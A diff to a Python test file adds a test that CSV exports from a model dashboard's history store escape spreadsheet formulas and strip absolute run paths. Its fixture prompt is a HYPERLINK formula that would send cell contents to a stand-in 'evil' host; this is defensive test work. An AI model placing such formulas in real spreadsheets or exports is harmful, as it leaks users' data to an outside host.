@@ -62,3 +62,25 @@ def test_retention_purges_old_rows(tmp_path):
     store.scoped("v").add(_record("new"))
     assert store.purge_older_than(7 * 24 * 3600) == 1
     assert [r.prompt for r in store.scoped("v").list()] == ["new"]
+
+
+def test_history_csv_export_is_formula_safe_and_path_free(tmp_path):
+    """On main the History CSV wrote ``=HYPERLINK(…)`` prompts as live formulas and absolute run paths."""
+    import csv
+    import io
+
+    from dashboard.csv_export import rows_csv_bytes
+    from dashboard.public import scrub_paths
+
+    runs = tmp_path / "runs"
+    store = HistoryStore(tmp_path / "h.sqlite").scoped("v")
+    store.add(HistoryRecord.from_generation(
+        checkpoint=runs / "demo" / "checkpoint-1", run=runs / "demo", prompt='=HYPERLINK("https://evil/?"&A1,"x")',
+        output="@SUM(1)", settings={"max_new_tokens": 8}, timings={}, image=Image.new("RGB", (8, 8))))
+    rows = scrub_paths(store.export_rows(), [runs], env={"VLMLAB_PUBLIC": "1"})
+    text = rows_csv_bytes(rows, drop=("settings", "timings")).decode()
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert row["prompt"].startswith("'=HYPERLINK") and row["output"] == "'@SUM(1)"
+    assert row["run"] == "demo" and row["checkpoint"] == "demo/checkpoint-1" and str(tmp_path) not in text
+    local = scrub_paths(store.export_rows(), [runs], env={})  # local use keeps the real paths
+    assert local[0]["run"] == str(runs / "demo")
